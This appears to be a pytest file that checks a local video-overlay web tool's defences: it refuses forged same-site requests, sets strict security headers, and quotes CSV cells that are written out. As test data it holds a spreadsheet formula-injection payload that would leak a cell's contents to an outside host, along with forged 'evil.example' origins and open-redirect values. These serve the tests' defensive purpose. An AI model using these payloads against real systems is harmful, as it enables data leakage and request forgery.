"""Issue 21, findings 1, 6 and the odd token of 7: forged requests from another local page,
the headers of every answer, a token header that is not ASCII, and CSV cells Excel would run.

A page on another port of 127.0.0.1 is the *same site* to the browser, so it holds our
SameSite=Strict cookie: these tests send the cookie (never the token header) with the
``Origin`` and ``Sec-Fetch-Site`` such a page's requests carry, and check nothing changed.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from PIL import Image
from typer.testing import CliRunner

import overlay
from overlay import i18n, logolib
from overlay.cli import app
from overlay.naming import mandate

from conftest import make_clip
from web_support import TOKEN, client, web_settings

PROVINCE, DISTRICT = "อุตรดิตถ์", "พิชัย"
PLACE = {"province": PROVINCE, "district": DISTRICT}
DATA = Path(__file__).parent / "data" / "report"
IMPORT = f"/api/report/{PROVINCE}/{DISTRICT}/import"
FOREIGN = "http://127.0.0.1:8123"              # another program's page on this PC
OURS = "http://127.0.0.1"                      # the TestClient's own origin (port 80)
FORMULA = '=HYPERLINK("http://x"&A2,"Open")'


@pytest.fixture(autouse=True)
def _english_again():
    yield
    i18n.set_language("en")


@pytest.fixture
def settings(tmp_path, official_logos):
    sent = tmp_path / "sent"
    sent.mkdir()
    return replace(web_settings(tmp_path), audit_dir=sent)


@pytest.fixture
def browser_like(settings):
    """The app as the browser holding the cookie sees it: no token header, the cookie only."""
    with client(settings, token=False) as c:
        c.cookies.set(settings.cookie_name(), TOKEN)
        yield c


def png(colour=(20, 60, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (200, 200), (*colour, 255)).save(buffer, "PNG")
    return buffer.getvalue()


def report_toml(members: str = "1,250") -> str:
    return (DATA / "phichai.toml").read_text(encoding="utf-8").replace(
        'members = "1,250"', f'members = "{members}"')


def moi_logo() -> bytes:
    refs = {ref.key: ref for ref in logolib.slots(logolib.target(None, PROVINCE, DISTRICT))}
    return Path(refs["moi"].path).read_bytes()


# ------------------------------------------------ the four forged requests of the issue

FOREIGN_HEADERS = [
    {"Origin": FOREIGN},                                              # an old browser
    {"Origin": FOREIGN, "Sec-Fetch-Site": "same-site"},               # Chromium, another port
    {"Origin": "null", "Sec-Fetch-Site": "same-site"},                # … under no-referrer
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": "null"},                                               # a sandboxed frame
    {"Origin": "http://127.0.0.1.evil.example"},
    {"Origin": "http://127.0.0.1:80@x"},
]


@pytest.mark.parametrize("headers", FOREIGN_HEADERS)
def test_a_forged_logo_upload_changes_nothing(browser_like, headers):
    before = moi_logo()
    r = browser_like.post("/api/logos/moi", params=PLACE, headers=headers,
                          files={"file": ("moi.png", png(), "image/png")})
    assert r.status_code == 403
    assert r.json()["error"] == ("This request did not come from this page: use the page itself "
                                 "to make changes.")
    assert "\n" not in r.json()["error"]
    assert moi_logo() == before


def test_a_forged_report_import_changes_nothing(browser_like):
    own = {"Origin": OURS, "Sec-Fetch-Site": "same-origin"}
    assert browser_like.post(IMPORT, content=report_toml().encode(), headers=own).status_code == 200
    before = browser_like.get(f"/api/report/{PROVINCE}/{DISTRICT}").json()["answers"]
    for headers in FOREIGN_HEADERS:
        forged = browser_like.post(IMPORT, content=report_toml("7").encode(), headers=headers)
        assert forged.status_code == 403, headers
        put = browser_like.put(f"/api/report/{PROVINCE}/{DISTRICT}", json={"answers": {}},
                               headers=headers)
        assert put.status_code == 403, headers
    assert browser_like.get(f"/api/report/{PROVINCE}/{DISTRICT}").json()["answers"] == before


def test_a_forged_upload_stores_nothing(browser_like, settings):
    r = browser_like.post("/api/uploads", params={"kind": "subs", "name": "a.srt"},
                          content=b"1\n00:00:01,000 --> 00:00:02,000\nx\n", headers={"Origin": FOREIGN})
    assert r.status_code == 403
    uploads = Path(settings.work_dir) / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())
    assert browser_like.get("/api/jobs").status_code == 200        # reading still works


def test_a_forged_audit_form_writes_nothing(browser_like, settings):
    make_clip(settings.audit_dir / "clip.mp4", seconds=1)
    r = browser_like.post("/audit", data={"province": PROVINCE},
                          headers={"Origin": "null", "Sec-Fetch-Site": "same-site"})
    assert r.status_code == 403
    assert not list(Path(settings.output_dir).glob("audit-*"))


def test_a_forged_delete_and_job_are_refused(browser_like):
    assert browser_like.delete("/api/logos/moi", params=PLACE,
                               headers={"Origin": FOREIGN}).status_code == 403
    assert browser_like.post("/api/jobs", json={"input": "x"},
                             headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403


def test_the_refusal_speaks_thai(browser_like):
    browser_like.cookies.set("overlay_lang", "th")
    r = browser_like.post("/api/logos/moi", params=PLACE, headers={"Origin": FOREIGN},
                          files={"file": ("moi.png", png(), "image/png")})
    assert r.status_code == 403
    assert any("\u0e00" <= ch <= "\u0e7f" for ch in r.json()["error"])


# ------------------------------------------------ what must keep working

@pytest.mark.parametrize("headers", [
    {"Origin": OURS, "Sec-Fetch-Site": "same-origin"},       # the page's own fetch
    {"Origin": "null", "Sec-Fetch-Site": "same-origin"},     # … as Chromium sends it under no-referrer
    {"Sec-Fetch-Site": "same-origin"},
    {"Origin": "HTTP://127.0.0.1:80"},
])
def test_the_pages_own_requests_still_work(browser_like, headers):
    r = browser_like.post("/api/logos/moi", params=PLACE, headers=headers,
                          files={"file": ("moi.png", png(), "image/png")})
    assert r.status_code == 200, r.text
    assert r.json()["added"] == "moi"
    imported = browser_like.post(IMPORT, content=report_toml("7").encode(), headers=headers)
    assert imported.status_code == 200, imported.text


def test_the_pages_own_audit_form_works(browser_like, settings):
    r = browser_like.post("/audit", data={"province": PROVINCE},
                          headers={"Origin": "null", "Sec-Fetch-Site": "same-origin"})
    assert r.status_code == 200 and 'data-testid="audit-report"' in r.text
    # its report keeps its own <style>, allowed by hash, nothing else inline
    policy = r.headers["content-security-policy"]
    assert "'sha256-" in policy and "unsafe-inline" not in policy


def test_a_script_with_the_token_header_and_no_origin_still_works(settings):
    with client(settings) as c:                  # X-Overlay-Token, no Origin: curl, a script
        r = c.post("/api/logos/moi", params=PLACE, files={"file": ("moi.png", png(), "image/png")})
        assert r.status_code == 200
        assert c.post(IMPORT, content=report_toml().encode()).status_code == 200
    with client(settings, token=False) as c:
        bearer = c.post(IMPORT, content=report_toml().encode(),
                        headers={"Authorization": f"Bearer {TOKEN}"})
        assert bearer.status_code == 200


def test_a_get_from_another_page_is_still_only_a_read(browser_like):
    # a link from elsewhere may open the page (top-level navigation): GETs change nothing
    r = browser_like.get("/", headers={"Sec-Fetch-Site": "same-site", "Origin": FOREIGN})
    assert r.status_code == 200


def test_the_language_switch_goes_back_to_the_page_without_a_referer(browser_like):
    page = browser_like.get(f"/report/{PROVINCE}/{DISTRICT}")
    assert "/lang/th?next=" in page.text
    r = browser_like.get("/lang/th", params={"next": f"/report/{PROVINCE}/{DISTRICT}"},
                         follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/report/")
    for elsewhere in ("//evil.example/", "https://evil.example/", "/\\evil.example"):
        r = browser_like.get("/lang/th", params={"next": elsewhere}, follow_redirects=False)
        assert r.headers["location"] == "/", elsewhere


# ------------------------------------------------ the headers of every answer

EXPECTED_HEADERS = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
}


@pytest.mark.parametrize("path", ["/", "/report", "/audit", "/api/jobs", "/api/logos?province=x",
                                  "/static/app.js", "/static/app.css", "/fonts/Loma.otf",
                                  "/api/jobs/nope"])
def test_every_answer_forbids_framing_sniffing_and_foreign_scripts(browser_like, path):
    r = browser_like.get(path)
    for name, value in EXPECTED_HEADERS.items():
        assert r.headers.get(name) == value, (path, name)
    policy = r.headers["content-security-policy"]
    for directive in ("default-src 'self'", "script-src 'self'", "style-src 'self'",
                      "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'",
                      "form-action 'self'"):
        assert directive in policy, (path, directive)
    assert "unsafe" not in policy


def test_refusals_carry_the_headers_too(settings):
    with client(settings, token=False) as c:
        r = c.get("/")
        assert r.status_code == 403 and r.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]


def test_templates_have_no_inline_script_style_or_handler():
    import re

    root = Path(overlay.__file__).parent
    for path in [*root.glob("web/templates/**/*.html"), *root.glob("*/templates/**/*.html")]:
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"\sstyle\s*=", text), path
        assert not re.search(r"\son[a-z]+\s*=", text), path
        for tag in re.findall(r"<script\b[^>]*>", text):
            assert "src=" in tag or 'type="application/json"' in tag, (path, tag)


# ------------------------------------------------ a token that is not ASCII (finding 7)

@pytest.mark.parametrize("header", ["X-Overlay-Token", "Authorization"])
def test_a_non_ascii_token_is_a_403_not_a_500(settings, header):
    value = "tökén-ทดสอบ".encode("utf-8")
    if header == "Authorization":
        value = b"Bearer " + value
    with client(settings, token=False) as c:
        r = c.get("/api/jobs", headers={header: value})
        assert r.status_code == 403
        line = r.json()["error"]
        assert line and "\n" not in line and "token" in line
        assert c.get("/api/jobs", params={"token": "ทดสอบ"}).status_code == 403
        cookie = f"{settings.cookie_name()}=t\u00f6ken".encode("utf-8")
        assert c.get("/api/jobs", headers={"Cookie": cookie}).status_code == 403


# ------------------------------------------------ spreadsheet-safe CSV (finding 6)

@pytest.mark.parametrize(("value", "cell"), [
    (FORMULA, "'" + FORMULA), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("-14.2 LUFS", "'-14.2 LUFS"),
    ("-14.2", "-14.2"), ("-1", "-1"), ("+3", "+3"), ("1e-3", "1e-3"), (-14.2, -14.2), (-1, -1),
    ("ลับแล", "ลับแล"), ("", ""), (None, None), ("a=b", "a=b"),
])
def test_spreadsheet_cell(value, cell):
    from overlay.files import spreadsheet_cell

    assert spreadsheet_cell(value) == cell


def test_safe_csv_writer_keeps_numbers_and_quotes_formulas():
    from overlay.files import SafeCsvWriter

    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["name", "loudness"], [FORMULA, -14.2], ["-x", "-14.2"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "loudness"], ["'" + FORMULA, "-14.2"], ["'-x", "-14.2"]]


def test_audit_csv_does_not_run_a_districts_formula(tmp_path):
    sent, out = tmp_path / "sent", tmp_path / "audit"
    sent.mkdir()
    template, extension = mandate()
    make_clip(sent / (template.format(district=DISTRICT, province=PROVINCE) + extension), seconds=1)
    text = (DATA / "phichai.toml").read_text(encoding="utf-8")
    assert 'youtube_url = "https://youtu.be/dQw4w9WgXcQ"' in text
    (sent / "report.toml").write_text(text.replace('"https://youtu.be/dQw4w9WgXcQ"',
                                                   "'" + FORMULA + "'"), encoding="utf-8")
    result = CliRunner().invoke(app, ["audit", str(sent), "--preset", "uttaradit", "-o", str(out)])
    assert (out / "audit.csv").is_file(), result.output
    rows = list(csv.DictReader(io.StringIO((out / "audit.csv").read_text(encoding="utf-8-sig"))))
    phichai = next(row for row in rows if row["district"] == DISTRICT)
    assert phichai["youtube_url"] == "'" + FORMULA
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
    import json

    # the JSON keeps the value exactly (it is data, not a spreadsheet)
    data = json.loads((out / "audit.json").read_text(encoding="utf-8"))
    assert next(r for r in data if r["district"] == DISTRICT)["youtube_url"] == FORMULA


def test_batch_report_does_not_run_a_manifests_formula(tmp_path, logo_dir):
    make_clip(tmp_path / "c0.mp4", seconds=1)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([["input", "district"], ["c0.mp4", "ลับแล"], [FORMULA, "ตรอน"],
                      ["c0.mp4", "@SUM(1)"]])
    (tmp_path / "jobs.csv").write_text(buffer.getvalue(), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["batch", str(tmp_path / "jobs.csv"), "--out-dir", str(out),
                                      "--max-duration", "2", "--logo-dir", str(logo_dir)])
    assert (out / "batch-report.csv").is_file(), result.output
    rows = list(csv.DictReader(io.StringIO((out / "batch-report.csv").read_text(encoding="utf-8-sig"))))
    by_row = {row["row"]: row for row in rows}
    assert by_row["2"]["status"] == "done" and by_row["2"]["input"] == "c0.mp4"
    assert by_row["3"]["input"] == "'" + FORMULA
    assert by_row["4"]["district"] == "'@SUM(1)"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())


def test_every_csv_is_written_through_the_safe_writer():
    """One writer for every CSV the project writes: a new csv.writer elsewhere would bypass it."""
    root = Path(overlay.__file__).parent
    direct = [str(p.relative_to(root)) for p in root.rglob("*.py")
              if p.name != "files.py" and ("csv.writer(" in (text := p.read_text(encoding="utf-8"))
                                           or "csv.DictWriter(" in text)]
    assert direct == []
